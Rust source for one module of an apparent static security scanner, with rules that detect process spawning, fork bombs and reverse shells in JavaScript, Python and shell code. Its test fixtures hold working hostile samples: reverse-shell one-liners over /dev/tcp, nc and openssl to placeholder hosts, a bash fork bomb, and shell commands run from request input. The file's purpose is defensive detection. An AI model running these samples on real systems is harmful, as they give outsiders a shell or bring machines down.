//! Processes and shells.

use super::{
    Rule, commands, options, programs,
    told::{self, Told},
};
use crate::guard::{
    fact::Call,
    found::Found,
    read::{Language, shell},
    value::{HOLE, Marks, Shape, Value},
    verdict::Severity,
};

pub static MODULE: Rule = Rule {
    id: "spawn-module",
    severity: Severity::Block,
    why: "an app that starts other programs can do whatever those can",
    remedy: "use a library for the task; if the app must start programs, allow the module in the policy",
    finds: &[
        ("x.js", "const { exec: e } = require('child_process');"),
        ("x.js", "import * as cp from 'node:child_process';"),
        ("x.js", "require('child_' + 'process')"),
        ("x.js", "process.mainModule.require('child_process')"),
        ("x.js", "(r => r('child_process'))(require)"),
        ("x.ts", "import cp = require('child_process');"),
        ("x.py", "import pty\npty.spawn('/bin/sh')"),
        ("x.js", "const cp = require('child_process'); cp.execFile('ls', ['-l']); ({...cp}).exec('id')"),
        ("x.mjs", "export {exec as run} from 'child_process'"),
    ],
    spares: &[
        ("x.js", "const fs = require('fs'); import('./child_process_view.js')"),
        ("x.py", "import multiprocessing"),
        (
            "x.js",
            "const {execFile} = require('child_process'); execFile('git', ['log', '-1'], {cwd: __dirname}, done); function done() {}",
        ),
    ],
};
pub static PROCESS: Rule = Rule {
    id: "spawn-process",
    severity: Severity::Block,
    why: "a program or shell is started",
    remedy: "use a library for the task; where a tool must be run, give it as a constant list of words without a shell",
    finds: &[
        ("x.py", "import os\nos.system('whoami')"),
        ("x.py", "from os import system as s\ns(cmd)"),
        ("x.py", "import subprocess as sp\nsp.run(request.args['c'], shell=True)"),
        ("x.py", "import subprocess\nsubprocess.Popen(['/bin/bash', '-c', x])"),
        ("x.py", "__import__('o' + 's').popen('id').read()"),
        ("x.py", "import os\nf = os.system\nf('id')"),
        ("x.js", "Deno.run({ cmd: ['sh'] })"),
        ("x.py", "import subprocess\nsubprocess.run(['ruby3.1', '-e', 'system(%q(id))'])"),
        ("x.js", "require('child_process').fork('./w.js', [], {execPath: '/bin/sh'})"),
        ("x.js", "require('child_process').execFile('node', ['--eval=fetch(1)'])"),
    ],
    spares: &[
        ("x.py", "import subprocess\nsubprocess.run(['npm', 'run', 'build'], check=True)"),
        ("x.py", "import os\nos.system('cls' if os.name == 'nt' else 'clear')"),
        ("x.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pytest', *args])"),
    ],
};
pub static FORK: Rule = Rule {
    id: "fork-bomb",
    severity: Severity::Block,
    why: "processes that make processes without an end stop the machine",
    remedy: "start a fixed number of workers",
    finds: &[
        ("x.py", "import multiprocessing\ndef more():\n    multiprocessing.Process(target=more).start()\n"),
        ("x.sh", ":(){ :|:& };:"),
        ("x.py", "import os\nwhile True:\n    os.fork()\n"),
        ("x.js", "const cluster = require('cluster'); while (true) cluster.fork();"),
        ("x.js", "const cluster = require('cluster'); cluster.on('online', () => cluster.fork());"),
    ],
    spares: &[
        ("x.js", "const cluster = require('cluster'); for (let i = 0; i < 4; i++) cluster.fork();"),
        ("x.js", "const cluster = require('cluster'); cluster.on('exit', () => cluster.fork());"),
        ("x.sh", "main() {\n  build | tee log\n}\nmain"),
    ],
};
pub static REVERSE_SHELL: Rule = Rule {
    id: "reverse-shell",
    severity: Severity::Block,
    why: "it gives somebody elsewhere a shell on this machine",
    remedy: "remove it",
    finds: &[
        ("x.sh", "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect c.example.net:443 > /tmp/s"),
        ("x.py", "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)"),
        ("x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("x.sh", "nc -e /bin/sh 10.0.0.1 4444"),
    ],
    spares: &[("x.sh", "bash build.sh > /dev/null 2>&1"), ("x.py", "import os\nos.dup(1)")],
};

pub(super) const RULES: &[&Rule] = &[&MODULE, &PROCESS, &FORK, &REVERSE_SHELL];

/// Modules of which the only use is to start programs.
const MODULES: [&str; 22] = [
    "child_process",
    "execa",
    "shelljs",
    "cross-spawn",
    "node-pty",
    "zx",
    "node-cmd",
    "sudo-prompt",
    "spawn-sync",
    "exec-sh",
    "pty",
    "pexpect",
    "sh",
    "plumbum",
    "fabric",
    "popen2",
    "commands",
    "ptyprocess",
    "winpty",
    "spawn-async",
    "shell-exec",
    "foreground-child",
];
pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
    if module == "child_process" {
        found.ending.module.get_or_insert(line);
    } else if MODULES.contains(&module) || module.starts_with("child_process/") {
        found.add(&MODULE, line, &format!("`{module}` is loaded"));
    }
}

pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    let path = call.path;
    let unknown = path != "require" && call.method() == "require"
        || path.is_empty()
        || path.starts_with('~')
        || path.ends_with("()");
    let asks = |name: &str| call.args.iter().any(|arg| arg.known() == Some(name));
    // Who compares or lists names does not load them.
    let compares = matches!(
        call.method(),
        "includes" | "has" | "startsWith" | "endsWith" | "indexOf" | "add" | "push" | "log" | "mock" | "test" | "match"
    );
    let loads = matches!(path, "require" | "import" | "process.getBuiltinModule" | "module.createRequire()");
    if !found.policy.allows_module("child_process")
        && (unknown && asks("child_process") || !compares && !loads && asks("node:child_process"))
    {
        found.add(&MODULE, line, "`child_process` is loaded by a way around `require`");
    }
    match path {
        "os.dup2" if call.args.iter().any(|arg| arg.as_path().is_some_and(|path| path.contains("fileno()"))) => {
            found.add(&REVERSE_SHELL, line, "a socket becomes a standard stream");
        }
        "pty.spawn" => found.add(&REVERSE_SHELL, line, "a program gets a terminal of its own"),
        "os.fork" | "os.forkpty" => found.add(&FORK, line, "the process is doubled"),
        "cluster.fork"
        | "multiprocessing.Process"
        | "subprocess.Popen"
        | "child_process.fork"
        | "child_process.spawn"
        | "child_process.exec"
        | "threading.Thread"
        | "_thread.start_new_thread"
        | "Worker"
        | "worker_threads.Worker"
            if call.endless =>
        {
            found.add(&FORK, line, "processes are started in a loop that nothing ends");
        }
        path if call.endless && call.method() == "submit" && path.contains("ProcessPoolExecutor()") => {
            found.add(&FORK, line, "each process starts more of its kind");
        }
        _ => {}
    }
    match programs::starts(path) {
        Some(_) if found.policy.allows_module(path.split('.').next().unwrap_or_default()) => {}
        Some(shell) => started(call, shell, line, found),
        None => {}
    }
}

fn started(call: &Call<'_>, shell: bool, line: usize, found: &mut Found<'_>) {
    let shell = shell || call.option("shell").is_some_and(may_be_true);
    let command = call
        .args
        .iter()
        .find(|arg| matches!(arg.shape, Shape::Text(_) | Shape::List(_)))
        .or_else(|| call.option("args"))
        .or_else(|| call.option("cmd"));
    if call.arg_marks().has(Marks::REQUEST) {
        found.add(&PROCESS, line, &format!("`{}` runs what a request brings", call.path));
        return;
    }
    let mut commands = commands_of(call, command, shell, line, found);
    if !call.python
        && call.arg(0).is_some_and(|first| word(first) == "node")
        && command.is_some_and(|it| it.as_list().is_some())
        && let Some(words) = commands.first_mut()
    {
        words.insert(0, "node".to_owned());
    }
    let words = commands.first().cloned().unwrap_or_default();
    let program = words.first().map(|word| word.rsplit('/').next().unwrap_or(word)).unwrap_or_default();
    if !shell {
        commands::words(&words, line, found);
    }
    let spread = shell && (call.args.len() > 1 || command.is_some_and(|it| it.as_list().is_some()));
    // A shell takes a list of words apart once more.
    let split = spread && words.iter().any(|word| word.contains([';', '|', '&', '`', '$', '<', '>', '(', '\n']));
    let hole = shell && words.iter().any(|word| word.contains(HOLE));
    let own = options::forks_own(call, found.file());
    let told = if split || hole || !options::are_plain(call, options::program(&words), shell) {
        Told::Refused
    } else {
        told::line(&commands, shell)
    };
    let told = match call.path {
        "child_process.fork" if own => Told::Fixed,
        "child_process.fork" | "child_process.ChildProcess" => Told::Refused,
        _ => told,
    };
    if call.path.starts_with("child_process.") {
        let fixed = told == Told::Fixed && named(call);
        found.ending.fixed |= fixed;
        found.ending.open |= !fixed;
        found.ending.interprets |= own || matches!(options::program(&words), "node" | "python" | "bun");
    }
    match told {
        Told::Fixed | Told::Open => found.hint(&PROCESS, line, &format!("`{}` starts {program}", call.path)),
        Told::Refused if program.is_empty() => {
            found.add(&PROCESS, line, &format!("`{}` starts what it is given", call.path));
        }
        Told::Refused => {
            found.add(&PROCESS, line, &format!("`{}` starts `{}`", call.path, words.join(" ").replace(HOLE, "…")));
        }
    }
}

/// The commands of a call, each in its words.
fn commands_of(
    call: &Call<'_>,
    command: Option<&Value>,
    shell: bool,
    line: usize,
    found: &mut Found<'_>,
) -> Vec<Vec<String>> {
    let rest = || call.args.iter().skip(1).flat_map(|arg| arg.as_list().unwrap_or_default().iter().map(word));
    match command.map(|command| &command.shape) {
        Some(Shape::List(words)) => vec![words.iter().map(word).collect()],
        // `spawn("git", ["log"])`: the words are two arguments, or all of them.
        Some(Shape::Text(text)) if !shell => vec![text.split_whitespace().map(str::to_owned).chain(rest()).collect()],
        Some(Shape::Text(text)) => {
            found.nest(Language::Shell, text, line);
            let mut commands: Vec<_> = shell::commands(text).into_iter().map(|command| command.words).collect();
            if let Some(last) = commands.last_mut() {
                last.extend(rest());
            }
            commands
        }
        _ => Vec::new(),
    }
}

/// An option that is not known may be set.
fn may_be_true(value: &Value) -> bool {
    let off = matches!(value.as_path(), Some("false" | "False" | "None" | "null" | "undefined"));
    !off && (value.is_true() || matches!(value.shape, Shape::Unknown | Shape::Path(_)))
}

/// `child_process` goes where it cannot be followed.
pub(super) fn handed(line: usize, found: &mut Found<'_>) {
    if !found.policy.allows_module("child_process") {
        found.add(&MODULE, line, "`child_process` is handed on, to be called unseen");
    }
}

/// Whether the program stands in the call, all that it is told is at hand, and nobody else has said any of it.
fn named(call: &Call<'_>) -> bool {
    let first = call.arg(0).or_else(|| call.option("args"));
    // The reader looks up at the end whether it is a function.
    let callback = |arg: &Value| arg.as_path().is_some_and(|path| !path.contains(['(', '[']));
    let at_hand = |arg: &Value| !matches!(arg.shape, Shape::Unknown | Shape::Path(_));
    first.is_some_and(|first| at_hand(first) || word(first) == "node")
        && call.args.iter().skip(1).all(|arg| at_hand(arg) || callback(arg))
        && !call.arg_marks().has(Marks::NETWORK.with(Marks::DECODED))
}

/// One word of a command. The interpreter that runs the app is known without its path.
fn word(value: &Value) -> String {
    match value.as_path() {
        Some("sys.executable") => "python".to_owned(),
        Some("process.execPath" | "process.argv0") => "node".to_owned(),
        _ => options::below(value),
    }
}
